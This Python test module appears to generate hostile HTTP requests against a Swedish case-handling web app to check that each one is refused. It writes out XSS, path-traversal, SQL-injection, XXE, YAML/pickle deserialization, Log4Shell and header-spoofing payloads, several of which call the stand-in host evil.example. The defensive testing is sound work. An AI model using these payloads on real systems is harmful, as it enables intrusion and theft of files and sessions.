"""Attacks on the pages, made by rule and by seed: each is one request that must be refused, or come to nothing."""

from __future__ import annotations

import hashlib
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from enum import StrEnum
from itertools import product
from random import Random
from urllib.parse import quote, urlencode

from klickfri.app.people.door import new_token
from klickfri.model.person import Role
from klickfri.web.forms import LARGEST, MARK, mark_of
from tests.unit.web.support import COOKIE

FORM = "application/x-www-form-urlencoded"
NOT_HERE = frozenset({303, 400, 404})
REFUSED = frozenset({400, 403, 404, 405, 409, 413, 422})


class Kind(StrEnum):
    """The classes."""

    FORM = "a form that the page did not make"
    COOKIE = "a cookie that is over, another's or altered"
    ROLE = "what is another role's"
    PATH = "an address that was guessed"
    SHOWN = "a value that is shown"
    BODY = "a body that no form has"
    HEADER = "a header that claims something"


@dataclass(frozen=True)
class Attack:
    """One request, and what it may be answered with."""

    kind: Kind
    name: str
    path: str
    cookie: str = ""
    method: str = "GET"
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    answers: frozenset[int] = REFUSED
    may_tell: bool = False
    """Who asks may see cases; never a protected person's."""


@dataclass(frozen=True)
class Form:
    """A form that does something, sent by who may, with its mark; `who` is one of `Target.tokens`."""

    path: str
    who: str
    fields: Mapping[str, str]
    answers: frozenset[int] = frozenset({303})


@dataclass(frozen=True)
class Target:
    """What there is to attack. `tokens` are of sessions that go on, by whom; `dead` of those that are over, by what
    ended them. `sees` says which roles see an address; `others` are those of what only another board may see, and
    `hidden` those of a protected person's case.
    """

    tokens: Mapping[str, str]
    dead: Mapping[str, str]
    forms: Sequence[Form]
    sees: Mapping[str, frozenset[Role]]
    others: Sequence[str]
    hidden: Sequence[str]
    hostile: Mapping[str, str] = field(default_factory=dict)
    """What stands in the log, by the case that it stands in."""


def cookie(token: str) -> str:
    """As a browser sends it."""
    return f"{COOKIE}={token}" if token else ""


def sent(kind: Kind, name: str, form: Form, token: str, answers: frozenset[int], **more: str) -> Attack:
    """A form, with the mark of the session that sends it."""
    body = urlencode({**form.fields, MARK: mark_of(token), **more}).encode()
    return Attack(kind, name, form.path, cookie(token), "POST", (("content-type", FORM),), body, answers)


def requests(target: Target, seed: int, most: int) -> list[Attack]:
    """All of them; of what can be combined without end so many, drawn by seed."""
    by = Random(seed)
    found = [
        *_forms(target), *_cookies(target, by), *_roles(target), *_paths(target, by, most), *_shown(target),
        *_bodies(target), *_headers(target),
    ]  # fmt: skip
    return list(dict.fromkeys(found))


# -- forms


def _forms(target: Target) -> Iterator[Attack]:
    """Each form that does something, with what an attacker may have in place of its mark."""
    for form in target.forms:
        token = target.tokens[form.who]
        for name, marks in _marks(target, token).items():
            body = urlencode([*form.fields.items(), *((MARK, one) for one in marks)]).encode()
            told = (("content-type", FORM), ("x-csrf-token", mark_of(token)))
            named = f"{form.path}: {name}"
            yield Attack(Kind.FORM, named, form.path, cookie(token), "POST", told, body, frozenset({403}))
        in_address = f"{form.path}?{urlencode({MARK: mark_of(token)})}"
        fields = urlencode(form.fields).encode()
        typed = (("content-type", FORM),)
        yield Attack(Kind.FORM, "in the address", in_address, cookie(token), "POST", typed, fields, frozenset({403}))


def _marks(target: Target, token: str) -> Mapping[str, Sequence[str]]:
    mark, other = mark_of(token), next(one for one in target.tokens.values() if one != token)
    return {
        "none": [], "empty": [""], "zeros": ["0" * 64], "of another session": [mark_of(other)],
        "of a session before": [mark_of(target.dead["left"])], "of no session": [mark_of("A" * 43)],
        "the cookie": [token], "its hash": [hashlib.sha256(token.encode()).hexdigest()], "in capitals": [mark.upper()],
        "shorter": [mark[:-1]], "longer": [f"{mark}0"], "and another": [mark, "x"], "with a space": [f" {mark}"],
    }  # fmt: skip


# -- cookies

_ASKED = ("/granskning", "/sok?arende=A-1", "/arende/trial/A-1", "/konto", "/tittat", "/")


def _cookies(target: Target, by: Random) -> Iterator[Attack]:
    for name, token in target.dead.items():
        for path in by.sample(_ASKED, 2):
            yield _to_the_log_in(f"{name}: {path}", path, cookie(token))
    token = target.tokens["auditor"]
    for name, value in _altered(token, by).items():
        yield _to_the_log_in(name, by.choice(_ASKED), value)


def _to_the_log_in(name: str, path: str, value: str) -> Attack:
    return Attack(Kind.COOKIE, name, path, value, answers=frozenset({303}))


def _altered(token: str, by: Random) -> Mapping[str, str]:
    places = by.sample(range(len(token)), 12)
    changed = {f"sign {at}": token[:at] + ("A" if token[at] != "A" else "B") + token[at + 1 :] for at in places}
    return {name: cookie(value) for name, value in changed.items()} | {
        "longer": cookie(f"{token}A"),
        "shorter": cookie(token[:-1]),
        "turned": cookie(token[::-1]),
        "in capitals": cookie(token.upper()),
        "twice": cookie(token * 2),
        "a hash": cookie(hashlib.sha256(token.encode()).hexdigest()),
        "a mark": cookie(mark_of(token)[:43]),
        "nobody's": cookie(new_token()),
        "an id": cookie("1"),
        "SQL": cookie("x' OR '1'='1"),
        "NUL": cookie(f"{token}%00"),
        "of TLS": f"__Host-{COOKIE}={token}",
        "of another name": f"session={token}; token={token}",
        "in capital letters": f"{COOKIE.upper()}={token}",
        "another after it": f"{COOKIE}={token}; {COOKIE}={'A' * 43}",
        "long": cookie("A" * 8000),
    }


# -- roles


def _roles(target: Target) -> Iterator[Attack]:
    """Each address as each role that may not, each form too, and with what a browser may claim."""
    for role, (path, sees) in product(Role, target.sees.items()):
        if role not in sees:
            token = target.tokens[role]
            yield Attack(Kind.ROLE, f"{role} at {path}", path, cookie(token), answers=frozenset({404}))
    for role, form in product(Role, target.forms):
        if role not in target.sees.get(form.path, frozenset(Role)):
            yield sent(Kind.ROLE, f"{role} sends {form.path}", form, target.tokens[role], frozenset({404}))


# -- addresses

SLOTS = (
    "/arende/{}/A-1", "/arende/trial/{}", "/arende/trial/A-1/bild/{}", "/arende/trial/A-1/brev/{}",
    "/arende/trial/A-1/film/{}", "/arende/trial/A-1/film/1/{}/3", "/arende/trial/A-1/film/1/2026-11-20-01/{}",
    "/korningar/{}", "/floden/trial/{}", "/floden/{}/" + "ab" * 32, "/tittat?namnd={}", "/sok?namnd={}", "/{}",
    "/gallrat?namnd={}",
    "/jamfor/arenden?process={}&a=A-1&b=A-1", "/jamfor/korningar?a={}&b={}",
)  # fmt: skip
# A client takes "../" out of an address by itself, so it is spelled otherwise here.
_UP = (
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..\\",
    "..%5c",
    "%252e%252e%252f",
    "....//",
    ".%00./",
    "..;/",
    "..%c0%af",
)
_FILES = (
    "etc/passwd", "keys/prov.vault", "keys/persons.seal", "work.sqlite", "audit/prov/log.sqlite",
    "recordings/trial/rules.py", "trial/process.toml", ".git/config", "klickfri.env",
)  # fmt: skip
_ALONE = (
    "%2e%2e", "%2e", "%00", "~root", "/etc/passwd", "C:%5cWindows", "file:///etc/passwd", "con", "%ff%fe", "*",
    "%25s%25n",
    "%7b%7b7*7%7d%7d", "'%20OR%20'1'='1", "1;DROP%20TABLE%20person", "x" * 3000, "%F0%9F%98%80", "-1", "0x10", "1e9",
    "9" * 400, "NaN", "None", "%0d%0aSet-Cookie:%20a=b", "http://evil.example/", "//evil.example",
)  # fmt: skip


def traversals() -> list[str]:
    """Every way that leads out of a folder, to every file; and what else may stand where a name does."""
    ways = [up * times + file for up, times, file in product(_UP, (1, 3, 8), _FILES)]
    return [slot.format(*[one] * slot.count("{}")) for slot, one in product(SLOTS, [*ways, *_ALONE])]


def _paths(target: Target, by: Random, most: int) -> Iterator[Attack]:
    everything = traversals()
    for path in by.sample(everything, min(most, len(everything))):
        yield Attack(Kind.PATH, "guessed", path, cookie(target.tokens["auditor"]), answers=NOT_HERE | {422})
    yield from _hidden(target)
    for path, texts in _WHEN.items():
        who = "operator" if path.startswith("/schema") else "auditor"
        for text in texts:
            yield _of_a_moment(f"{path}{quote(text)}", target.tokens[who])


def _of_a_moment(path: str, token: str) -> Attack:
    return Attack(Kind.PATH, path, path, cookie(token), answers=frozenset({200, 404, 422}), may_tell=True)


_ENDS = ("0001-01-01", "9999-12-31")
"""Of the calendar: a day, or a zone, further there is none."""
_WHEN = {
    "/sok?fran=": (*_ENDS, "0001-01-02", "2026-02-30", "٢٠٢٦-٠١-٠١", "x" * 500),
    "/sok?till=": _ENDS,
    "/schema?dag=": _ENDS,
    "/veckor?fran=": _ENDS,
    "/veckor?till=": _ENDS,
    "/berort?regel=assess&fran=": _ENDS,
    "/berort?regel=assess&till=": _ENDS,
    "/korningar?fore=": (*_ENDS, "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "1e9"),
}


def _hidden(target: Target) -> Iterator[Attack]:
    """What is another board's, asked for with every role; and protected persons' cases, with every role but theirs."""
    shown = frozenset({200, 303, 404, 422})
    for path in target.others:
        yield Attack(Kind.PATH, f"another board: {path}", path, cookie(target.tokens["other board"]), answers=shown)
    unrestricted = target.tokens["unrestricted"]
    for path in target.hidden:
        named = f"protected: {path}"
        yield Attack(Kind.PATH, named, path, cookie(unrestricted), answers=shown, may_tell=True)
    for form in target.forms:
        if form.path.endswith(("/gor", "/fil", "/bevis")) or form.path == "/handelser":
            who = target.tokens["other board"]
            yield sent(Kind.PATH, f"another board: {form.path}", form, who, frozenset({404}))
        if form.path in ("/overlamnat/gor", "/ko/gor"):
            yield sent(Kind.PATH, f"protected: {form.path}", _of_protected(form), unrestricted, frozenset({404}))


def _of_protected(form: Form) -> Form:
    fields = {name.replace("trial/A-3", "trial/S-1"): value for name, value in form.fields.items()}
    return Form(form.path, form.who, fields | ({"arende": "trial/S-1"} if "arende" in fields else {}))


# -- what is shown

_BREAKS = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "]]>",
    "`",
    '\\"',
    "&quot;>",
    "</bdi>",
    "\n",
)
_EVIL = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<base href=//evil.example>",
    "<iframe srcdoc='<script>1</script>'>", "<a href=javascript:alert(1)>x</a>", " onmouseover=alert(1) x=",
    "<style>*{background:url(//evil.example)}</style>", " style=position:fixed ", "javascript:alert(1)",
    "data:text/html,<script>1</script>", "{{ 7 * 7 }}", "{% include 'style.css' %}", "//evil.example/x",
    "<form action=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<object data=//evil.example>", "<math href=javascript:1>",
    "<details open ontoggle=alert(1)>", "<button formaction=//evil.example>", "=HYPERLINK(\"//evil.example\")",
    "\r\nSet-Cookie: a=b\r\n\r\n<b>x</b>", "<b>x</b>", "%3Cscript%3E", "\\u003cscript\\u003e", "<!--#exec cmd=id-->",
)  # fmt: skip
_SIGNS = ("", "\u202e", "\u2066", "\u200b", "\u2028", "\ufeff", "\x1b[31m", "\ue000", "å" * 200)


def payloads(seed: int, most: int) -> list[str]:
    """What somebody hostile may have written somewhere; each kind of harm before any comes again."""
    by, found = Random(seed), list[str]()
    while len(found) < most:
        found += [f"{by.choice(_BREAKS)}{evil}{by.choice(_SIGNS)}" for evil in by.sample(_EVIL, len(_EVIL))]
    return found[:most]


def _shown(target: Target) -> Iterator[Attack]:
    """Each hostile value where the log has it, and where an address or a form brings it."""
    auditor, operator = target.tokens["auditor"], target.tokens["operator"]
    shown, told = frozenset({200}), frozenset({200, 303, 400, 404, 409, 422})
    for reference, evil in target.hostile.items():
        asked = urlencode({"process": "trial", "a": reference, "b": "A-1"})
        for path in (f"/arende/trial/{reference}?alla", f"/jamfor/arenden?{asked}"):
            yield Attack(Kind.SHOWN, evil, path, cookie(auditor), answers=shown, may_tell=True)
        for path, names in _ECHOES.items():
            who = operator if path == "/ko" else auditor
            address = f"{path}?{urlencode(dict.fromkeys(names, evil))}"
            yield Attack(Kind.SHOWN, evil, address, cookie(who), answers=told, may_tell=True)
        act = Form("/ko/gor", "", {"gor": "retry", "skal": evil, "kod": evil, "korning": evil, "arende:trial/A-2": "x"})
        yield replace(sent(Kind.SHOWN, evil, act, operator, told), may_tell=True)
    everything = "".join(target.hostile.values())
    stranger = Form("/logga-in", "", {"konto": everything, "losenord": everything, "kod": everything})
    yield sent(Kind.SHOWN, everything, stranger, new_token(), frozenset({403, 413}))
    for path in (
        "/tittat",
        "/gallrat",
        "/veckor",
        "/berort?flode=abab",
        "/korningar/natt-1",
        "/sok?korning=natt-1",
        "/sok?kod=X",
    ):
        yield Attack(Kind.SHOWN, path, path, cookie(auditor), answers=shown, may_tell=True)


_ECHOES = {
    "/sok": ("arende", "fran", "korning", "flode", "steg", "utfall", "kod", "typ", "ord"),
    "/ko": ("kod", "korning", "process", "nyss"),
    "/veckor": ("fran", "till"),
    "/berort": ("flode", "regel", "fran", "till"),
    "/jamfor/arenden": ("process", "a", "b"),
}


# -- bodies

_PART = b'--x\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n'


def _bodies(target: Target) -> Iterator[Attack]:
    """What a browser does not send from our pages, with the right mark in it where there is room for one."""
    form = next(one for one in target.forms if one.path == "/overlamnat/gor")
    token = target.tokens[form.who]
    fields = {**form.fields, MARK: mark_of(token)}
    for kind, body in [*_typed(fields), *_parts(fields)]:
        told = (("content-type", kind),) if kind else ()
        named = f"{kind}: {body[:60]!r}"
        yield Attack(Kind.BODY, named, form.path, cookie(token), "POST", told, body, frozenset({400, 403, 413}))
    for method in ("PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND"):
        body = urlencode(fields).encode()
        yield Attack(
            Kind.BODY, method, form.path, cookie(token), method, (("content-type", FORM),), body, frozenset({400, 405})
        )


def _typed(fields: Mapping[str, str]) -> Iterable[tuple[str, bytes]]:
    right = urlencode(fields).encode()
    xml = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield from [
        ("", right), ("text/plain", right), ("application/json", b'{"formular": "x"}'), ("application/xml", xml),
        ("text/xml", xml), ("application/octet-stream", right), ("application/x-www-form-urlencoded-", right),
        ("multipart/form-data", right), ("application/grpc", right), ("application/json, " + FORM, right),
        ("application/x-yaml", b"!!python/object/apply:os.system ['id']"),
        ("application/python-pickle", b"cos\nsystem\n"),
    ]  # fmt: skip
    for odd in (
        b"", b"&" * 900, b"=" * 900, b"%", b"%zz=%zz", b"formular", b"\xff\xfe=\xff", b"a" * LARGEST, b"a=" * LARGEST,
        b"__proto__[x]=1&constructor=1", b"formular[]=x", b"formular=\x00", b"formular=%00", b"formular=%ed%a0%80",
        b";".join(b"a=1" for _ in range(200)), b"&".join(b"a=1" for _ in range(71)), right + b"&" + b"x" * LARGEST,
    ):  # fmt: skip
        yield FORM, odd


def _parts(fields: Mapping[str, str]) -> Iterable[tuple[str, bytes]]:
    """Forms of parts, which none of ours is."""
    parts = b"".join(_PART % (name.encode(), b"", value.encode()) for name, value in fields.items())
    whole, kind = parts + b"--x--\r\n", "multipart/form-data; boundary=x"
    upload = _PART % (b"gor", b'; filename="../../rules.py"', b"import os") + b"--x--\r\n"
    surrogate = _PART % (MARK.encode(), b"", rb"\ud800") + b"--x--\r\n"
    yield from [
        (kind, whole), (kind, parts), (kind, upload), (kind, b"--x\r\n\r\n\r\n--x--\r\n"), (kind, b"--x--\r\n"),
        ("multipart/form-data; boundary=", whole), ("multipart/form-data; boundary=" + "x" * 400, whole),
        (f"{kind}; charset=unicode_escape", surrogate), (f"{kind}; charset=undefined", whole),
        (f"{kind}; charset=utf-7", whole), (f"{kind}; charset=rot13", whole), ("multipart/mixed; boundary=x", whole),
        (kind, (_PART % (b"a", b"", b"1")) * 200 + b"--x--\r\n"),
    ]  # fmt: skip


# -- headers

_CLAIMS = (
    ("x-forwarded-user", "person.auditor"), ("x-remote-user", "person.auditor"), ("x-role", "auditor"),
    ("authorization", "Basic YWRtaW46YWRtaW4="), ("authorization", "Bearer x"), ("x-original-url", "/tittat"),
    ("x-rewrite-url", "/tittat"), ("x-forwarded-prefix", "/tittat"), ("x-http-method-override", "POST"),
    ("x-method-override", "POST"), ("x-forwarded-for", "127.0.0.1"), ("x-forwarded-host", "evil.example"),
    ("x-forwarded-proto", "https"), ("forwarded", "for=127.0.0.1;host=evil.example"), ("x-real-ip", "127.0.0.1"),
    ("x-forwarded-client-cert", "Subject=\"CN=person.auditor\""), ("range", "bytes=0-9999999"),
    ("if-none-match", "*"), ("if-modified-since", "Thu, 01 Jan 2099 00:00:00 GMT"), ("expect", "100-continue"),
    ("upgrade", "websocket"), ("upgrade", "h2c"), ("te", "trailers, chunked"), ("accept-encoding", "gzip;q=1, *;q=0"),
    ("content-length", "0"), ("origin", "null"), ("referer", "http://127.0.0.1:8420/tittat"), ("cookie2", "$Version=1"),
    ("x-csrf-token", "0" * 64), ("sec-fetch-site", "same-origin"), ("user-agent", "${jndi:ldap://evil.example/a}"),
    ("accept-language", "sv" * 4000), ("proxy-authorization", "Basic YWRtaW46YWRtaW4="),
)  # fmt: skip
_NAMES = (
    "evil.example", "127.0.0.1.evil.example", "evil.example:8420", "127.0.0.1@evil.example", "localhost.", "0.0.0.0",
    "[::1]", "2130706433", "127.1", "", "*", "127.0.0.1,evil.example", "xn--evil.example", "LOCALHOST.evil.example",
)  # fmt: skip


def _headers(target: Target) -> Iterator[Attack]:
    operator = cookie(target.tokens["operator"])
    for header in _CLAIMS:
        named = f"{header[0]}: {header[1][:40]}"
        yield Attack(Kind.HEADER, named, "/tittat", operator, "GET", (header,), answers=frozenset({404}))
    for host in _NAMES:
        told = (("host", host),)
        yield Attack(Kind.HEADER, f"host: {host}", "/korningar", operator, "GET", told, answers=frozenset({400}))
